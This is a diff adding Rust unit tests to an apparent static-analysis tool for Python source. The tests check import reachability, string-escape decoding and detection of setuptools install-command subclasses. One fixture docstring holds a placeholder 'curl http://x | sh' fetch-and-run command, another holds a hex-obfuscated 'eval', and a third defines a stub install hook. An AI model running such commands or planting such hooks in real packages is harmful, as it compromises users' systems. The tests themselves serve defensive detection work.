@@ -672,6 +672,51 @@ mod tests {
     }
 
     #[test]
+    fn only_invoked_names_reach_and_main_blocks_are_scripts() {
+        let src = b"def aliased():\n    pass\ndef called():\n    pass\ndef main():\n    pass\nx = aliased\ncalled()\nif __name__ == '__main__':\n    main()\n";
+        let f = facts(src);
+        let reach = f.reachable_at_import();
+        assert!(reach.contains("called"), "{reach:?}");
+        assert!(
+            !reach.contains("aliased"),
+            "an alias is not a call: {reach:?}"
+        );
+        assert!(
+            !reach.contains("main"),
+            "a __main__ block runs as a script: {reach:?}"
+        );
+    }
+
+    #[test]
+    fn escapes_are_decoded_and_docstrings_marked() {
+        let src = b"\"\"\"Module doc: curl http://x | sh\"\"\"\nname = \"\\x65\\x76\\x61\\x6c\"\nraw = r\"\\x41\"\nblob = b\"\\x78\\x9c\"\n";
+        let f = facts(src);
+        let doc = &f.strings[0];
+        assert!(doc.bare && doc.value.starts_with("Module doc"));
+        let name = &f.strings[1];
+        assert_eq!(name.value, "eval");
+        assert_eq!(name.spelled, 4);
+        assert!(!name.bare);
+        assert_eq!(
+            f.strings[2].value, "\\x41",
+            "raw strings keep their backslashes"
+        );
+        assert_eq!(
+            &*f.strings[3].data(),
+            b"\x78\x9c",
+            "bytes literals give bytes"
+        );
+    }
+
+    #[test]
+    fn install_command_classes_and_methods_are_known() {
+        let src = b"from setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        pass\n";
+        let f = facts(src);
+        assert_eq!(f.classes, vec![("Post".to_owned(), "(install)".to_owned())]);
+        assert_eq!(f.methods, vec![("run".to_owned(), "Post".to_owned())]);
+    }
+
+    #[test]
     fn deep_nesting_does_not_overflow() {
         let depth = 50_000;
         let mut src = String::from("x = ");
